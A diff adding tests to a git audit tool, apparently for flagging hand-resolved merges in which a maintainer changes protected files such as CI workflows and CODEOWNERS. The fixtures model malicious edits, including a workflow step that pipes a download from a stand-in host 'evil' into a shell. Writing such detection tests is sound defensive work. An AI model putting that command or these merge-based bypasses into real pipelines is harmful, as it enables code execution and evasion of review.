@@ -226,3 +226,105 @@ test('revert -m 1 of a merge that changed a workflow, by alice; -s ours by alice
   const { report } = await audit(r);
   expect(failing(report)).toEqual([]);
 });
+
+describe('twins: the same merges made by hand still fail', () => {
+  /** The merge just made, its files edited by `key`'s owner (a hand resolution), re-signed. */
+  const amendAs = (r: TestRepo, key: SshTestKey, files: Record<string, string>): string => {
+    r.write(files);
+    r.run(['add', '-A']);
+    gitAs(r, key, ['commit', '-q', '--amend', '--no-edit']);
+    return r.head();
+  };
+  const protectedFindings = (report: JsonReport) =>
+    resultOf(report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit);
+
+  test("an octopus by carol that keeps a topic's old workflow (dropping main's change) fails at the merge", async () => {
+    const r = copyRepo(base);
+    const fork = r.head();
+    for (const t of ['t1', 't2']) {
+      r.run(['checkout', '-q', '-b', t, fork]);
+      asCarol(r, t, { [`src/${t}.txt`]: `${t}\n` });
+    }
+    r.run(['checkout', '-q', 'main']);
+    asAlice(r, 'ci: cache', { '.github/workflows/ci.yml': WF('ci', '      - run: echo cache\n') });
+    gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
+    const evil = amendAs(r, carol, { '.github/workflows/ci.yml': WF('ci') });
+    const { report, code } = await audit(r);
+    expect(protectedFindings(report)).toEqual([evil]);
+    expect(code).toBe(1);
+  });
+
+  test('an octopus whose topic carol changed a workflow on fails at her topic commit', async () => {
+    const r = copyRepo(base);
+    const fork = r.head();
+    r.run(['checkout', '-q', '-b', 't1', fork]);
+    const bad = asCarol(r, 't1', { '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
+    r.run(['checkout', '-q', '-b', 't2', fork]);
+    asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
+    r.run(['checkout', '-q', 'main']);
+    asAlice(r, 'release', { '.github/workflows/release.yml': WF('release', '      - run: echo r\n') });
+    gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
+    const { report } = await audit(r);
+    // The octopus is judged by folder (a topic and main changed different workflows): stricter than git.
+    expect(protectedFindings(report)).toContain(bad);
+  });
+
+  test('criss-cross: carol resolving the final merge by editing the workflow (its gitguard step gone) fails', async () => {
+    const r = copyRepo(base);
+    const fork = r.head();
+    r.run(['checkout', '-q', '-b', 'x', fork]);
+    asAlice(r, 'x1', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x1\n') });
+    r.run(['checkout', '-q', '-b', 'y', fork]);
+    asAlice(r, 'y1', { '.github/workflows/release.yml': WF('release', '      - run: echo y1\n') });
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y', 'x']);
+    r.run(['checkout', '-q', 'x']);
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'y1 into x', 'y~1']);
+    asAlice(r, 'x2', { '.github/workflows/ci.yml': WF('ci', '      - run: echo x2\n') });
+    r.run(['checkout', '-q', 'y']);
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'x into y again', 'x']);
+    const evil = amendAs(r, carol, {
+      '.github/workflows/ci.yml':
+        'name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo x2\n',
+    });
+    const { report, code } = await audit(r);
+    expect(protectedFindings(report)).toEqual([evil]);
+    expect(code).toBe(1);
+  });
+
+  test("merge=union: carol's merge that adds an owner neither side had fails; -merge resolved to one side fails", async () => {
+    const r = copyRepo(base);
+    asAlice(r, 'union', { '.gitattributes': '.github/CODEOWNERS merge=union\n.github/workflows/ci.yml -merge\n' });
+    const fork = r.head();
+    r.run(['checkout', '-q', '-b', 'side', fork]);
+    asAlice(r, 'owner b', { '.github/CODEOWNERS': '* @alice\n/b/ @bob\n' });
+    r.run(['checkout', '-q', 'main']);
+    asAlice(r, 'owner c', { '.github/CODEOWNERS': '* @alice\n/c/ @carol\n' });
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'merge side', 'side']);
+    const evil = amendAs(r, carol, { '.github/CODEOWNERS': '* @alice\n/c/ @carol\n/b/ @bob\n* @carol\n' });
+    let { report } = await audit(r);
+    expect(protectedFindings(report)).toEqual([evil]);
+    // -merge (no content merge): both sides changed ci.yml, carol keeps hers and drops main's.
+    r.run(['reset', '-q', '--hard', fork]);
+    r.run(['checkout', '-q', '-B', 'side', fork]);
+    asAlice(r, 'ci side', { '.github/workflows/ci.yml': WF('ci', '      - run: echo side\n') });
+    r.run(['checkout', '-q', 'main']);
+    asAlice(r, 'ci main', { '.github/workflows/ci.yml': `# top\n${WF('ci')}` });
+    expect(tryMerge(r, 'side')).not.toBe(0);
+    r.run(['checkout', '--ours', '.github/workflows/ci.yml']);
+    r.run(['add', '-A']);
+    gitAs(r, carol, ['commit', '-q', '--no-edit']);
+    const dropped = r.head();
+    ({ report } = await audit(r));
+    expect(protectedFindings(report)).toEqual([dropped]);
+  });
+});
+
+/** A merge as carol that may stop on a conflict: git's exit code. */
+function tryMerge(r: TestRepo, branch: string): number {
+  try {
+    gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', `merge ${branch}`, branch]);
+    return 0;
+  } catch {
+    return 1;
+  }
+}
